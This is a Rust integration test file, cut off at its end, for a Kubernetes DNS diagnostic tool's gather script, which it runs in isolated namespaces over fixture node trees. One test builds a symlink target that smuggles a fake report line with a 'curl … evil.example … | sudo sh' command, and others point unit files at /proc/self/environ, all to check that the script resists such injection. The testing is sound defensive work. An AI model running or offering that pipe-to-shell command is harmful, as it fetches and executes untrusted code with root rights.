//! The real gather script over every fixture tree: what dnsfix derives from the files the
//! script actually reads must be what it derives from the whole tree.
//!
//! Fixture tests read a node's tree with `raw::from_tree`, which sees every file in it; the
//! script on a node reads only what it knows to look for (and what the units and configs it
//! reads name). This test runs `gather.sh` with dash in a private mount namespace where the
//! tree is the node's /etc, /var and /run (nothing of the machine's own) and its /usr,
//! /opt and /srv lie over the machine's (the tools must still run), then compares the kubelet,
//! resolver, flavour and CNI facts with those from the tree. A file the script cannot reach
//! (a `--config` named in an unusual way, a path with a space) shows up as a difference.
//!
//! Processes are not part of a tree here: /proc is a fresh one of the script's own PID
//! namespace (no process of the machine shows), so the tree's kubelet pid,
//! its command line and the command outputs other than `systemctl is-active` and
//! `is-enabled` (answered by a stand-in from the tree) are left out on both sides. Needs
//! root, like the lab.

use std::path::{Path, PathBuf};
use std::process::Command;

use dnsfix::facts::NodeFacts;
use dnsfix::facts::raw::{self, FileState, RawFacts};
use serde_json::Value;

fn trees() -> Vec<PathBuf> {
    let base = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut out = Vec::new();
    let mut stack = vec![base.join("rules"), base.join("facts")];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.file_name().is_some_and(|n| n == "root") {
                out.push(path);
            } else if path.is_dir() {
                stack.push(path);
            }
        }
    }
    out.sort();
    out
}

/// The tree as the script should see it: no processes, no command output but the units;
/// a split-/usr tree's /lib as this merged-/usr machine shows it, /usr/lib.
fn expected(tree: &Path) -> RawFacts {
    let mut raw = raw::from_tree(tree).unwrap_or_else(|e| panic!("{}: {e}", tree.display()));
    if Path::new("/lib").is_symlink() && tree.join("lib").is_dir() {
        let moved: Vec<String> = raw
            .files
            .keys()
            .filter(|p| p.starts_with("/lib/"))
            .cloned()
            .collect();
        for path in moved {
            if let Some(f) = raw.files.remove(&path) {
                raw.files.insert(format!("/usr{path}"), f);
            }
        }
    }
    raw.pids.clear();
    raw.all_pids.clear();
    raw.commands.retain(|name, _| {
        ["units", "resolved-enabled", "firewalld-enabled"].contains(&name.as_str())
    });
    raw.files.retain(|path, _| {
        !(path.starts_with("/proc/")
            && path
                .split('/')
                .nth(2)
                .is_some_and(|p| p.chars().all(|c| c.is_ascii_digit())))
    });
    raw
}

const MOUNTS: &str = r#"
set -e
tree=$1 tmp=$2 script=$3
# Debian's /usr/bin/awk is /etc/alternatives/awk: the machine's alternatives are kept.
[ -d /etc/alternatives ] && cp -a /etc/alternatives "$tmp/alternatives"
for d in etc var run; do
  if [ -d "$tree/$d" ]; then
    mkdir -p "$tmp/upper-$d" "$tmp/work-$d"
    mount -t overlay overlay -o "lowerdir=$tree/$d,upperdir=$tmp/upper-$d,workdir=$tmp/work-$d" "/$d"
  else
    mount -t tmpfs tmpfs "/$d"
  fi
done
[ -d "$tmp/alternatives" ] && [ ! -e /etc/alternatives ] && cp -a "$tmp/alternatives" /etc/alternatives
# A split-/usr tree's /lib is this merged-/usr machine's /usr/lib.
if [ -d "$tree/lib" ] && [ -L /lib ]; then
  mkdir -p "$tmp/lib-as-usr"
  cp -a "$tree/lib" "$tmp/lib-as-usr/lib"
fi
# (/srv: where a tree keeps a data directory of its own, k0s's --data-dir say.)
for d in usr opt srv; do
  lower=
  [ -d "$tree/$d" ] && lower="$tree/$d:"
  [ "$d" = usr ] && [ -d "$tmp/lib-as-usr" ] && lower="$lower$tmp/lib-as-usr:"
  if { [ -n "$lower" ] || [ "$d" = usr ]; } && [ -d "/$d" ]; then
    mkdir -p "$tmp/upper-$d" "$tmp/work-$d"
    mount -t overlay overlay -o "lowerdir=$lower/$d,upperdir=$tmp/upper-$d,workdir=$tmp/work-$d" "/$d"
  fi
done
# systemd's private library names its version: the tree's alone, not this machine's (the
# overlay's upper layer takes the removal; this machine's /usr is untouched). Only where
# /usr is that overlay, and only a path no symlink leads out of.
if awk '$2 == "/usr" && $3 == "overlay" { found = 1 } END { exit !found }' /proc/self/mounts; then
  for x in /usr/lib/systemd/libsystemd-shared-*.so /usr/lib64/systemd/libsystemd-shared-*.so /usr/lib/*/systemd/libsystemd-shared-*.so; do
    if [ -e "$x" ] && [ "$(readlink -f "$x")" = "$x" ] && [ ! -e "$tree$x" ] && [ ! -e "$tmp/lib-as-usr${x#/usr}" ]; then
      rm -f "$x"
    fi
  done
fi
# The tree's hostname, in a UTS namespace of the test's own.
if [ -f "$tree/proc/sys/kernel/hostname" ]; then
  cat "$tree/proc/sys/kernel/hostname" >/proc/sys/kernel/hostname
fi
# The tree's kernel command line (an empty one where it has none), not this machine's.
if [ -f "$tree/proc/cmdline" ]; then cp "$tree/proc/cmdline" "$tmp/cmdline"; else : >"$tmp/cmdline"; fi
mount --bind "$tmp/cmdline" /proc/cmdline
# systemctl answers from the tree; no kubelet binary is asked for its version.
mount -t tmpfs tmpfs /usr/local/sbin
cp "$tmp/systemctl" /usr/local/sbin/systemctl
chmod +x /usr/local/sbin/systemctl
# What a test starts in the namespace first (processes the scan finds).
if [ -f "$tmp/before.sh" ]; then . "$tmp/before.sh"; fi
exec dash "$script" </dev/null
"#;

/// A copy of the rule fixture `case`'s node tree (tests/fixtures/rules/CASE/root) in a fresh
/// scratch directory named after `name`, for a test that changes it: the scratch directory
/// and the tree in it.
fn fixture_copy(name: &str, case: &str) -> (PathBuf, PathBuf) {
    let scratch = std::env::temp_dir().join(format!("{name}-{}", std::process::id()));
    let tree = scratch.join("root");
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/rules")
        .join(case)
        .join("root");
    std::fs::create_dir_all(&scratch).expect("mkdir");
    let copied = Command::new("cp")
        .arg("-a")
        .arg(&fixture)
        .arg(&tree)
        .status();
    assert!(copied.expect("cp").success(), "copy {}", fixture.display());
    (scratch, tree)
}

fn gathered(tree: &Path, scratch: &Path) -> RawFacts {
    gathered_waiting(tree, scratch, None)
}

/// [`gathered`], with each systemctl call given `wait` seconds instead of the default
/// command timeout's. Where the tree has `.dnsfix/cmd/hang`, the stand-in's `is-active`
/// never answers, as systemctl waits on a PID 1 that does not.
fn gathered_waiting(tree: &Path, scratch: &Path, wait: Option<u64>) -> RawFacts {
    std::fs::create_dir_all(scratch).expect("scratch");
    let nonce = dnsfix::util::nonce();
    let script = scratch.join("gather.sh");
    let text = match wait {
        Some(secs) => raw::script_for(&nonce, &[], true, secs),
        None => raw::script(&nonce),
    };
    std::fs::write(&script, text).expect("write script");
    let hang = if tree.join(".dnsfix/cmd/hang").exists() {
        "exec sleep 60\n"
    } else {
        ""
    };
    let answer = |name: &str| {
        let text = std::fs::read_to_string(tree.join(".dnsfix/cmd").join(name)).unwrap_or_default();
        if text.is_empty() || text.ends_with('\n') {
            text
        } else {
            text + "\n"
        }
    };
    let stub = format!(
        "#!/bin/sh\nprintf '%s\\n' \"$*\" >> {}\ncase $1 in\nis-active) {hang}cat <<'EOF'\n{}EOF\n;;\nis-enabled) case $2 in\nfirewalld) cat <<'EOF'\n{}EOF\n;;\n*) cat <<'EOF'\n{}EOF\n;;\nesac ;;\n*) exit 1 ;;\nesac\n",
        dnsfix::node_script::quote(&scratch.join("systemctl.calls").to_string_lossy()),
        answer("units"),
        answer("firewalld-enabled"),
        answer("resolved-enabled")
    );
    std::fs::write(scratch.join("systemctl"), stub).expect("write systemctl stand-in");
    let out = Command::new("unshare")
        // A PID namespace of its own with its own /proc: the script sees no process of
        // the machine (a lab's kubelet stand-ins running beside this test included).
        .args([
            "--mount",
            "--propagation",
            "private",
            "--pid",
            "--uts",
            "--fork",
            "--mount-proc",
            "--",
            "sh",
            "-c",
            MOUNTS,
            "mounts",
        ])
        .arg(tree)
        .arg(scratch)
        .arg(&script)
        .output()
        .unwrap_or_else(|e| panic!("cannot run unshare (needs root and util-linux): {e}"));
    assert!(
        out.status.success() || !out.stdout.is_empty(),
        "{}: the namespace could not be set up (this test needs root, like the lab): {}",
        tree.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    RawFacts::parse(&out.stdout, &nonce).unwrap_or_else(|e| {
        panic!(
            "{}: the gather output does not frame: {e:?}\nstderr: {}",
            tree.display(),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// The parts of the facts that depend on which files were read.
fn compared(facts: &NodeFacts) -> Value {
    let json = serde_json::to_value(facts).expect("facts serialize");
    let mut kubelet = json["kubelet"].clone();
    if let Some(k) = kubelet.as_object_mut() {
        k.remove("pid");
        k.remove("version");
    }
    serde_json::json!({
        "flavour": json["flavour"],
        "kubelet": kubelet,
        "resolver": json["resolver"],
        "cni": json["cni"],
        // firewalld's zones and conf (whether it runs is the machine's here).
        "firewalld": json["firewalld"],
        "kubelet_unit": json["services"]["kubelet_unit"],
        // What `systemctl is-active` answered, unit by unit: a gather that stops asking
        // fails here.
        "unit_states": [
            json["services"]["systemd_resolved"],
            json["services"]["network_manager"],
            json["services"]["systemd_networkd"],
            json["services"]["firewalld"],
            json["services"]["kubelet"],
            json["services"]["k3s"],
            json["services"]["rke2"],
            json["services"]["kubelet_unit_state"],
        ],
        // Asked only where /run/systemd/resolve is.
        "systemd_resolved_enabled": json["services"]["systemd_resolved_enabled"],
        "firewalld_enabled": json["services"]["firewalld_enabled"],
        // From the unit's links, where /etc/NetworkManager is.
        "network_manager_enabled": json["services"]["network_manager_enabled"],
        // From the name of its plugin directory (libdir/NetworkManager/VERSION), which
        // decides its default rc-manager.
        "network_manager_version": dnsfix::facts::network_manager::NmDns::read(&facts.files).version,
        // systemd-resolved's main file (from systemd 256 the first of /etc, /run,
        // /usr/local/lib and /usr/lib's, the version from the name of its library) and the
        // compiled-in fallback list its shipped file shows.
        "resolved_main": format!("{:?}", dnsfix::facts::resolved_conf::ResolvedConf::read(&facts.raw).main),
        "resolved_shipped_fallback": dnsfix::facts::resolved_conf::shipped_fallback(&facts.raw),
        // What the boot applies (the live values are the machine's here).
        "sysctls_persisted": json["sysctls"]
            .as_object()
            .map(|m| m.iter().map(|(k, v)| (k.clone(), v["persisted"].clone())).collect::<serde_json::Map<_, _>>()),
        "br_netfilter_persisted": json["br_netfilter"]["persisted"],
        // The marks a cut-off apply left (not how they are judged: that takes the boot
        // id and the processes, which are the machine's here).
        "pending_restarts": json["pending_restarts"].as_array().map(|marks| {
            marks.iter().map(|m| serde_json::json!([m["unit"], m["run"], m["path"]])).collect::<Vec<_>>()
        }),
    })
}

fn differences(a: &Value, b: &Value, at: &str, out: &mut Vec<String>) {
    match (a, b) {
        (Value::Object(x), Value::Object(y)) => {
            let keys: std::collections::BTreeSet<&String> = x.keys().chain(y.keys()).collect();
            for k in keys {
                differences(
                    x.get(k).unwrap_or(&Value::Null),
                    y.get(k).unwrap_or(&Value::Null),
                    &format!("{at}.{k}"),
                    out,
                );
            }
        }
        // A path the tree does not have is "not gathered" (unknown) for the tree and
        // "missing" for the script, which looked: the same node either way.
        _ if at.ends_with(".state") && a == "unreadable" && b == "missing" => {}
        _ if a != b => out.push(format!("{at}: from the tree {a}, gathered {b}")),
        _ => {}
    }
}

#[test]
fn the_script_reaches_every_file_the_facts_need() {
    let trees = trees();
    assert!(
        trees.len() >= 60,
        "fixture trees are missing: {}",
        trees.len()
    );
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-tree-{}", std::process::id()));
    let failures: Vec<String> = std::thread::scope(|scope| {
        let chunks: Vec<Vec<(usize, &PathBuf)>> = (0..4)
            .map(|k| {
                trees
                    .iter()
                    .enumerate()
                    .filter(|(i, _)| i % 4 == k)
                    .collect()
            })
            .collect();
        let runs: Vec<_> = chunks
            .into_iter()
            .map(|chunk| {
                let scratch = &scratch;
                scope.spawn(move || {
                    chunk
                        .into_iter()
                        .flat_map(|(i, tree)| compare(tree, &scratch.join(i.to_string())))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        runs.into_iter()
            .flat_map(|r| {
                r.join()
                    .unwrap_or_else(|_| vec!["a comparison panicked".into()])
            })
            .collect()
    });
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(
        failures.is_empty(),
        "the gather script misses what the tree has:\n{}",
        failures.join("\n")
    );
}

fn compare(tree: &Path, scratch: &Path) -> Vec<String> {
    let mut failures = Vec::new();
    {
        let want = NodeFacts::from_raw("node1", &expected(tree));
        let raw = gathered(tree, scratch);
        // A file the tree does not have is missing for both; one the script reported as
        // unreadable would mean it met something that is not a regular file.
        for (path, f) in &raw.files {
            if f.state == FileState::Unreadable && !path.starts_with("/proc/") {
                failures.push(format!("{}: {path} could not be read", tree.display()));
            }
        }
        let got = NodeFacts::from_raw("node1", &raw);
        let mut diffs = Vec::new();
        differences(&compared(&want), &compared(&got), "", &mut diffs);
        failures.extend(
            diffs
                .into_iter()
                .map(|d| format!("{}: {d}", tree.display())),
        );
    }
    failures
}

/// Debian 12's unit file of systemd-resolved, where its package puts it (/lib is /usr/lib).
const RESOLVED_UNIT: &str = "/lib/systemd/system/systemd-resolved.service";
/// The link `systemctl enable systemd-resolved` makes (its `WantedBy=sysinit.target`).
const RESOLVED_WANTS: &str = "etc/systemd/system/sysinit.target.wants/systemd-resolved.service";

/// A symlink `at` to `to`, its directory made first.
fn link(at: &Path, to: &str) {
    std::fs::create_dir_all(at.parent().expect("parent")).expect("mkdir");
    std::os::unix::fs::symlink(to, at).expect("symlink");
}

/// What a case does to a tree, under its name, and whether the links then tell `enabled`.
type LinkCase = (&'static str, fn(&Path), bool);

const LINK_CASES: [LinkCase; 11] = [
    ("the package's layout", |_| {}, true),
    (
        "no link",
        |t| std::fs::remove_file(t.join(RESOLVED_WANTS)).expect("rm"),
        false,
    ),
    (
        "a link in a .requires directory",
        |t| {
            std::fs::remove_file(t.join(RESOLVED_WANTS)).expect("rm");
            let at = "etc/systemd/system/multi-user.target.requires/systemd-resolved.service";
            link(&t.join(at), RESOLVED_UNIT);
        },
        true,
    ),
    (
        "masked",
        |t| {
            link(
                &t.join("etc/systemd/system/systemd-resolved.service"),
                "/dev/null",
            )
        },
        false,
    ),
    (
        "masked until the next boot",
        |t| {
            link(
                &t.join("run/systemd/system/systemd-resolved.service"),
                "/dev/null",
            )
        },
        false,
    ),
    (
        "a copy in /etc",
        |t| {
            let to = t.join("etc/systemd/system/systemd-resolved.service");
            std::fs::copy(t.join("usr").join(&RESOLVED_UNIT[1..]), to).expect("cp");
        },
        false,
    ),
    (
        "an empty unit file (masked)",
        |t| std::fs::write(t.join("usr").join(&RESOLVED_UNIT[1..]), "").expect("write"),
        false,
    ),
    (
        "a .wants directory that is a link",
        |t| {
            std::fs::remove_dir_all(t.join("etc/systemd/system/sysinit.target.wants")).expect("rm");
            link(
                &t.join("etc/wants-elsewhere/systemd-resolved.service"),
                RESOLVED_UNIT,
            );
            link(
                &t.join("etc/systemd/system/sysinit.target.wants"),
                "/etc/wants-elsewhere",
            );
        },
        false,
    ),
    (
        "drop-ins of the package's own",
        |t| {
            let d = t.join("usr/lib/systemd/system/systemd-resolved.service.d");
            std::fs::create_dir_all(&d).expect("mkdir");
            std::fs::write(d.join("10-x.conf"), "[Service]\n").expect("write");
        },
        false,
    ),
    (
        "an empty drop-in directory in /etc",
        |t| {
            let d = t.join("etc/systemd/system/systemd-resolved.service.d");
            std::fs::create_dir_all(d).expect("mkdir");
        },
        false,
    ),
    (
        "a link in /usr/local/lib",
        |t| {
            link(
                &t.join("usr/local/lib/systemd/system/systemd-resolved.service"),
                RESOLVED_UNIT,
            )
        },
        false,
    ),
];

/// Whether systemd-resolved starts at boot comes from its links, with no systemctl started,
/// only where `systemctl is-enabled` is certain to say `enabled`: the package's unit file
/// (Debian 12's, as the lab's healthy scenario carries it) is the one systemd finds, no
/// drop-ins are there for it, and /etc/systemd/system has a link of its name in a .wants
/// or .requires directory (this machine's /usr is merged, as gather.sh requires). Anything
/// else is asked of systemctl (the stand-in answers `disabled`, so an answer from the links
/// shows). tests/it/systemd_e2e.rs holds the same against real systemd.
#[test]
fn a_resolved_enabled_by_its_links_is_told_without_systemctl() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-linked-{}", std::process::id()));
    let unit = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/lab/scenarios/healthy/root/usr/lib/systemd/system/systemd-resolved.service");
    let mut failures = Vec::new();
    for (i, (name, change, linked)) in LINK_CASES.iter().enumerate() {
        let case = scratch.join(i.to_string());
        let tree = case.join("root");
        let vendor = tree.join("usr").join(&RESOLVED_UNIT[1..]);
        std::fs::create_dir_all(vendor.parent().expect("parent")).expect("mkdir");
        std::fs::copy(&unit, &vendor).expect("copy the unit file");
        link(&tree.join(RESOLVED_WANTS), RESOLVED_UNIT);
        std::fs::create_dir_all(tree.join("run/systemd/resolve")).expect("mkdir");
        std::fs::create_dir_all(tree.join(".dnsfix/cmd")).expect("mkdir");
        std::fs::write(tree.join(".dnsfix/cmd/resolved-enabled"), "disabled\n").expect("write");
        change(&tree);
        let raw = gathered(&tree, &case.join("run"));
        let calls = std::fs::read_to_string(case.join("run/systemctl.calls")).unwrap_or_default();
        let asked = calls.lines().any(|l| l == "is-enabled systemd-resolved");
        let said = NodeFacts::from_raw("node1", &raw)
            .services
            .systemd_resolved_enabled;
        let want = if *linked { "enabled" } else { "disabled" };
        if said.as_deref() != Some(want) || asked == *linked {
            failures.push(format!(
                "{name}: {said:?}, systemctl asked: {asked} ({calls:?})"
            ));
        }
    }
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Every path dnsfix always gathers, present in a tree with content of its own, comes back
/// from the script as that content (files under /etc, /var and /run), and every `*.conf`
/// directory is listed: deleting a path from gather.sh fails here, not only in review.
#[test]
fn the_script_reads_every_always_gathered_path() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-all-{}", std::process::id()));
    let tree = scratch.join("root");
    let on_tree = |path: &str| {
        ["/etc/", "/var/", "/run/"]
            .iter()
            .any(|p| path.starts_with(p))
    };
    let files: Vec<&str> = raw::ALWAYS_GATHERED
        .iter()
        .copied()
        .filter(|p| on_tree(p) && *p != "/etc/dnsfix")
        .collect();
    for path in &files {
        let file = tree.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, format!("# {path}\n")).expect("write");
    }
    let dirs: Vec<&str> = raw::CONF_DIRS
        .iter()
        .copied()
        .filter(|d| on_tree(d))
        .collect();
    for dir in &dirs {
        let file = tree.join(dir.trim_start_matches('/')).join("x.conf");
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, format!("# {dir}/x.conf\n")).expect("write");
    }
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(files.len() >= 18 && dirs.len() >= 6, "{files:?} {dirs:?}");
    let mut missed = Vec::new();
    for path in files {
        match raw.get(path) {
            Some(f)
                if f.state == FileState::Present
                    && *f.content == *format!("# {path}\n").as_bytes() => {}
            other => missed.push(format!("{path}: {:?}", other.map(|f| f.state))),
        }
    }
    for dir in dirs {
        let path = format!("{dir}/x.conf");
        if raw.get(&path).is_none_or(|f| f.state != FileState::Present) {
            missed.push(format!("{path}: not listed"));
        }
    }
    assert!(
        missed.is_empty(),
        "gather.sh does not read:\n{}",
        missed.join("\n")
    );
}

/// A unit naming /proc, /sys or /dev files, directly, through `..`, or spelt `//proc`
/// or `/./sys`, gets none of them read: a kernel file can block the one read of the batch, or hold what is not dnsfix's.
#[test]
fn the_script_never_follows_a_unit_into_proc_sys_or_dev() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-proc-{}", std::process::id()));
    let tree = scratch.join("root");
    let unit = tree.join("etc/systemd/system/kubelet.service");
    std::fs::create_dir_all(unit.parent().expect("parent")).expect("mkdir");
    std::fs::write(
        &unit,
        "[Service]\n\
         EnvironmentFile=-/etc/../proc/self/status\n\
         EnvironmentFile=-/proc/self/environ\n\
         EnvironmentFile=-/sys/kernel/notes\n\
         EnvironmentFile=-/etc/kubernetes/../../dev/zero\n\
         EnvironmentFile=-//proc/self/status\n\
         EnvironmentFile=-/./sys/kernel/notes\n\
         EnvironmentFile=-/.//dev//zero\n\
         EnvironmentFile=-/etc/kubernetes/kubelet.env\n\
         EnvironmentFile=-/etc//default/./kubelet\n\
         ExecStart=/usr/local/bin/kubelet $KUBELET_ARGS\n",
    )
    .expect("write unit");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    // The script's own fixed looks at /sys (br_netfilter, the nodelocaldns interface) are
    // not a unit's doing.
    let followed: Vec<&String> = raw
        .files
        .keys()
        .filter(|p| {
            !["/sys/module/br_netfilter", "/sys/class/net/nodelocaldns"].contains(&p.as_str())
        })
        .filter(|p| {
            p.contains("..")
                || p.starts_with("//")
                || p.starts_with("/./")
                || p.starts_with("/sys/")
                || p.starts_with("/dev/")
                || p.contains("/self/")
        })
        .collect();
    assert!(followed.is_empty(), "read: {followed:?}");
    assert!(
        raw.get("/etc/kubernetes/kubelet.env").is_some(),
        "the plain one is looked at"
    );
    // One outside those trees, spelt with // and /./, is looked at under that spelling,
    // the one the unit's facts look it up by.
    assert!(
        raw.get("/etc//default/./kubelet").is_some(),
        "{:?}",
        raw.order
    );
}

/// A file the kubelet's settings name that is a symlink into /proc (where every file says
/// size 0, and /proc/kmsg would block the batch's one read) is never opened: it is
/// unknown (unreadable), never empty. A plain empty file reads empty, unopened, and so
/// does a link to one.
#[test]
fn a_symlink_into_proc_is_never_read() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-proclink-{}", std::process::id()));
    let tree = scratch.join("root");
    let dir = tree.join("etc/kubernetes");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(
        dir.join("kubelet-config.yaml"),
        "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\n\
         resolvConf: /etc/kubernetes/upstream.conf\n",
    )
    .expect("write config");
    std::os::unix::fs::symlink("/proc/self/mountinfo", dir.join("upstream.conf")).expect("symlink");
    std::fs::write(dir.join("empty.env"), "").expect("empty");
    std::os::unix::fs::symlink("empty.env", dir.join("linked.env")).expect("symlink");
    // A link whose target ends in a newline, which `$(...)` would strip, into /proc, with
    // an empty file named as the stripped target beside it.
    std::fs::write(dir.join("decoy"), "").expect("decoy");
    std::os::unix::fs::symlink("/proc/self/mountinfo", dir.join("decoy\n")).expect("symlink");
    std::os::unix::fs::symlink("decoy\n", dir.join("tricky.env")).expect("symlink");
    std::fs::write(
        dir.join("kubelet.env"),
        "KUBELET_ARGS=\"--config=/etc/kubernetes/kubelet-config.yaml\"\n",
    )
    .expect("env");
    let unit = tree.join("etc/systemd/system/kubelet.service");
    std::fs::create_dir_all(unit.parent().expect("parent")).expect("mkdir");
    std::fs::write(
        &unit,
        "[Service]\nEnvironmentFile=-/etc/kubernetes/kubelet.env\n\
         EnvironmentFile=-/etc/kubernetes/empty.env\n\
         EnvironmentFile=-/etc/kubernetes/linked.env\n\
         EnvironmentFile=-/etc/kubernetes/tricky.env\n\
         ExecStart=/usr/local/bin/kubelet $KUBELET_ARGS\n",
    )
    .expect("write unit");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    let looked_at = |path: &str| {
        raw.get(path)
            .unwrap_or_else(|| panic!("{path} not looked at"))
            .clone()
    };
    let link = looked_at("/etc/kubernetes/upstream.conf");
    assert_eq!(link.state, FileState::Unreadable, "{link:?}");
    assert!(link.content.is_empty(), "{link:?}");
    let empty = looked_at("/etc/kubernetes/empty.env");
    assert_eq!(empty.state, FileState::Present, "{empty:?}");
    assert!(empty.content.is_empty(), "{empty:?}");
    let linked = looked_at("/etc/kubernetes/linked.env");
    assert_eq!(linked.state, FileState::Present, "{linked:?}");
    assert!(linked.content.is_empty(), "{linked:?}");
    assert_eq!(
        linked.canonical.as_deref(),
        Some("/etc/kubernetes/empty.env")
    );
    let tricky = looked_at("/etc/kubernetes/tricky.env");
    assert_eq!(tricky.state, FileState::Unreadable, "{tricky:?}");
}

/// /etc/resolv.conf a link whose target holds newlines (`ln -s "$(printf '/run/q\n  fix:
/// …')"`): its target once reached every report whole, the lines after the newline
/// reading as the report's own. A real target holds none: the file is unknown.
#[test]
fn a_link_target_with_a_newline_is_unknown() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-nl-{}", std::process::id()));
    let tree = scratch.join("root");
    std::fs::create_dir_all(tree.join("etc")).expect("mkdir");
    let target = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh\n  \
                  critical  DNS-ALL-GOOD  nothing else to do";
    std::os::unix::fs::symlink(target, tree.join("etc/resolv.conf")).expect("symlink");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    let f = raw.get("/etc/resolv.conf").expect("looked at");
    assert_eq!(f.state, FileState::Unreadable, "{f:?}");
    assert_eq!((&f.symlink_target, &f.canonical), (&None, &None), "{f:?}");
}

/// Two sysctl.d files whose names are not UTF-8 (`99-\xfe.conf`, `99-\xff.conf`) were one
/// file in the facts, the later one: the `net.ipv4.ip_forward = 0` of the other was gone.
/// Both are read, apart, and the setting is persisted where it is.
#[test]
fn sysctl_files_whose_names_are_not_utf8_stay_apart() {
    use std::os::unix::ffi::OsStrExt;
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-utf8-{}", std::process::id()));
    let tree = scratch.join("root");
    let dir = tree.join("etc/sysctl.d");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let name = |b: &[u8]| dir.join(std::ffi::OsStr::from_bytes(b));
    std::fs::write(name(b"99-\xfe.conf"), "net.ipv4.ip_forward = 0\n").expect("write");
    std::fs::write(name(b"99-\xff.conf"), "kernel.sysrq = 0\n").expect("write");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    let listed: Vec<(&str, &[u8])> = raw
        .files_in("/etc/sysctl.d")
        .map(|(p, f)| (p, &f.content[..]))
        .collect();
    assert_eq!(
        listed,
        [
            (
                "/etc/sysctl.d/99-\\xfe.conf",
                &b"net.ipv4.ip_forward = 0\n"[..]
            ),
            ("/etc/sysctl.d/99-\\xff.conf", b"kernel.sysrq = 0\n"),
        ]
    );
    let facts = NodeFacts::from_raw("node1", &raw);
    let persisted = facts.sysctls["net.ipv4.ip_forward"].persisted.as_ref();
    assert_eq!(
        persisted.map(|p| (p.value.as_str(), p.path.as_str())),
        Some(("0", "/etc/sysctl.d/99-\\xfe.conf"))
    );
}

/// A name with spaces cannot hide another path: a directory `a ` in the walked
/// kubelet.conf.d whose tree spells ` /etc/cni/net.d/10-flannel.conflist` after it made
/// the node's real CNI config look read already, and it was never read.
#[test]
fn a_name_with_spaces_hides_no_other_path() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-spaces-{}", std::process::id()));
    let tree = scratch.join("root");
    let dir = "var/lib/rancher/k3s/agent/etc/kubelet.conf.d";
    let real = "/etc/cni/net.d/10-flannel.conf";
    let decoy = tree.join(format!("{dir}/a {real}"));
    std::fs::create_dir_all(decoy.parent().expect("parent")).expect("mkdir");
    std::fs::write(&decoy, "{}\n").expect("decoy");
    let file = tree.join(real.trim_start_matches('/'));
    std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
    std::fs::write(&file, "{\"type\": \"flannel\"}\n").expect("real");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        raw.get(real).map(|f| (f.state, f.content.to_vec())),
        Some((FileState::Present, b"{\"type\": \"flannel\"}\n".to_vec())),
        "{:?}",
        raw.order
    );
}

/// k3s reads a `config.yaml.d` drop-in whose name ends in `.yaml` or `.yml` in any case
/// (pkg/configfilearg `dotDFiles`, `HasSuffixI`): the script reads those, and reports the
/// directory missing where there is none (a plan then knows a drop-in it writes is new).
#[test]
fn k3s_config_drop_ins_are_read_whatever_the_case_of_their_extension() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-yaml-{}", std::process::id()));
    let tree = scratch.join("root");
    let dir = "/etc/rancher/k3s/config.yaml.d";
    let names = ["10-a.yaml", "20-b.YAML", "30-c.Yml", "40-d.txt"];
    for name in names {
        let file = tree.join(dir.trim_start_matches('/')).join(name);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, format!("# {name}\n")).expect("write");
    }
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    for (name, read) in names.iter().zip([true, true, true, false]) {
        let state = raw.get(&format!("{dir}/{name}")).map(|f| f.state);
        assert_eq!(state == Some(FileState::Present), read, "{name}: {state:?}");
    }
    assert_eq!(
        raw.get("/etc/rancher/rke2/config.yaml.d").map(|f| f.state),
        Some(FileState::Missing)
    );
}

/// Of the containerd config k3s writes, the gather keeps the conf_dir line alone: the file
/// may hold a registry's credentials (the v2 template's `registry.configs.*.auth`).
#[test]
fn only_the_conf_dir_line_of_k3s_s_containerd_config_is_kept() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-k3s-ct-{}", std::process::id()));
    let tree = scratch.join("root");
    let path = "/var/lib/rancher/k3s/agent/etc/containerd/config.toml";
    let file = tree.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
    std::fs::write(
        &file,
